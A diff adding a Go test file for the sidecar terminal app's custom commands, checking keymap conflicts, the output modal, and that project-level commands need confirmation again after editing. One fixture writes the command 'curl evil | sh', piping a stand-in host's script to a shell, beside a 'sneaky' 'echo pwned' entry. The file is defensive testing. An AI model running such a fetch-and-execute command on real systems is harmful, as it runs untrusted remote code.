@@ -0,0 +1,160 @@
+package app
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	tea "github.com/charmbracelet/bubbletea"
+	"github.com/marcus/sidecar/internal/config"
+	"github.com/marcus/sidecar/internal/customcmd"
+	"github.com/marcus/sidecar/internal/keymap"
+	"github.com/marcus/sidecar/internal/plugin"
+	"github.com/marcus/sidecar/internal/state"
+)
+
+func TestLoadCustomCommands(t *testing.T) {
+	globalDir := t.TempDir()
+	workDir := t.TempDir()
+	config.SetTestConfigPath(filepath.Join(globalDir, "config.json"))
+	defer config.ResetTestConfigPath()
+
+	body := `{"commands": [
+		{"name": "test file", "command": "make test-file {file}", "context": "git-status", "key": "s"},
+		{"name": "say hi", "command": "echo hi {project}", "output": "modal"},
+		{"name": "broken", "command": "echo {nope}"}
+	]}`
+	if err := os.WriteFile(filepath.Join(globalDir, "config.json"), []byte(body), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	km := keymap.NewRegistry()
+	km.RegisterBinding(keymap.Binding{Key: "s", Command: "stage-file", Context: "git-status"})
+	m := Model{
+		keymap:   km,
+		registry: plugin.NewRegistry(nil),
+		ui:       &UIState{WorkDir: workDir, ProjectRoot: workDir},
+	}
+	m.loadCustomCommands()
+
+	if len(m.customCommands) != 2 || len(m.customCommandErrors) != 1 || !strings.HasPrefix(m.customCommandErrors[0], "broken") {
+		t.Fatalf("commands = %+v, errors = %v", m.customCommands, m.customCommandErrors)
+	}
+	if cmd, ok := km.GetCommand("custom:say hi"); !ok || cmd.Handler == nil || cmd.Context != "global" {
+		t.Errorf("say hi should be registered, got %+v", cmd)
+	}
+	if len(m.keymapConflicts) != 1 || m.keymapConflicts[0].Shadowed != "stage-file" {
+		t.Errorf("conflicts = %+v", m.keymapConflicts)
+	}
+	if hints := m.customFooterHints("git-status"); len(hints) != 1 || hints[0].keys != "s" {
+		t.Errorf("footer hints = %+v", hints)
+	}
+
+	// {file} has no value without a file-aware plugin
+	msg := m.runCustomCommand("custom:test file")()
+	if toast, ok := msg.(ToastMsg); !ok || !toast.IsError || !strings.Contains(toast.Message, "{file}") {
+		t.Errorf("missing variable should toast an error, got %#v", msg)
+	}
+
+	// Reloading replaces earlier registrations
+	if err := os.WriteFile(filepath.Join(globalDir, "config.json"), []byte(`{}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	m.loadCustomCommands()
+	if _, ok := km.GetCommand("custom:say hi"); ok || len(m.customCommands) != 0 {
+		t.Error("reload should unregister old commands")
+	}
+	if b, ok := km.BindingFor("s", "git-status"); !ok || b.Command != "stage-file" {
+		t.Errorf("plugin binding should remain, got %+v", b)
+	}
+}
+
+func TestCustomCommandOutputModal(t *testing.T) {
+	m := Model{width: 100, height: 40, ui: &UIState{}, registry: plugin.NewRegistry(nil)}
+	m.handleCustomCommandDone(customCommandDoneMsg{Name: "lint", Output: customcmd.OutputModal, Text: "ok"})
+	if m.activeModal() != ModalCommandOutput || m.activeContext != "command-output" {
+		t.Fatalf("modal output should open the output modal, active %v", m.activeModal())
+	}
+	if view := m.renderCommandOutputOverlay(""); !strings.Contains(view, "lint") {
+		t.Error("modal should show the command name")
+	}
+
+	m.handleCommandOutputKey(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("q")})
+	if m.showCommandOutput {
+		t.Error("q should close the modal")
+	}
+}
+
+func TestProjectCustomCommandsNeedConfirmation(t *testing.T) {
+	globalDir := t.TempDir()
+	workDir := t.TempDir()
+	config.SetTestConfigPath(filepath.Join(globalDir, "config.json"))
+	defer config.ResetTestConfigPath()
+	if err := state.InitWithDir(t.TempDir()); err != nil {
+		t.Fatal(err)
+	}
+
+	body := `{"commands": [
+		{"name": "sneaky", "command": "echo pwned", "key": "j"},
+		{"name": "lint", "command": "make lint", "key": "L"}
+	]}`
+	if err := os.MkdirAll(filepath.Join(workDir, ".sidecar"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(workDir, ".sidecar", "config.json"), []byte(body), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	km := keymap.NewRegistry()
+	km.RegisterBinding(keymap.Binding{Key: "j", Command: "cursor-down", Context: "global"})
+	m := Model{
+		width:    100,
+		height:   40,
+		keymap:   km,
+		registry: plugin.NewRegistry(nil),
+		ui:       &UIState{WorkDir: workDir, ProjectRoot: workDir},
+	}
+	m.loadCustomCommands()
+
+	// A project key never hides an existing binding
+	if b, ok := km.BindingFor("j", "global"); !ok || b.Command != "cursor-down" {
+		t.Errorf("j = %+v, want the built-in binding", b)
+	}
+	if len(m.customCommandErrors) != 1 || !strings.Contains(m.customCommandErrors[0], "would hide cursor-down") {
+		t.Errorf("errors = %v", m.customCommandErrors)
+	}
+
+	// Unconfirmed commands stay palette-only and ask before running
+	if _, ok := km.BindingFor("L", "global"); ok {
+		t.Error("unconfirmed project command should not be bound")
+	}
+	if len(m.customFooterHints("global")) != 0 {
+		t.Error("unbound keys should not show in the footer")
+	}
+	if cmd := m.runCustomCommand("custom:lint"); cmd != nil || m.activeModal() != ModalCommandConfirm {
+		t.Fatalf("running an unconfirmed command should ask first, modal %v", m.activeModal())
+	}
+	if view := m.renderCommandConfirmOverlay(""); !strings.Contains(view, "make lint") {
+		t.Error("confirmation should show the command")
+	}
+
+	if cmd := m.confirmCustomCommand(); cmd == nil || m.activeModal() != ModalNone {
+		t.Fatal("confirming should close the modal and run the command")
+	}
+	if b, ok := km.BindingFor("L", "global"); !ok || b.Command != "custom:lint" {
+		t.Errorf("confirmed command should be bound, got %+v", b)
+	}
+	if _, ok := km.BindingFor("j", "global"); !ok {
+		t.Error("built-in binding lost on reload")
+	}
+
+	// Editing the command asks again
+	if err := os.WriteFile(filepath.Join(workDir, ".sidecar", "config.json"), []byte(`{"commands": [{"name": "lint", "command": "curl evil | sh", "key": "L"}]}`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	m.loadCustomCommands()
+	if _, ok := km.BindingFor("L", "global"); ok {
+		t.Error("an edited project command should need confirming again")
+	}
+}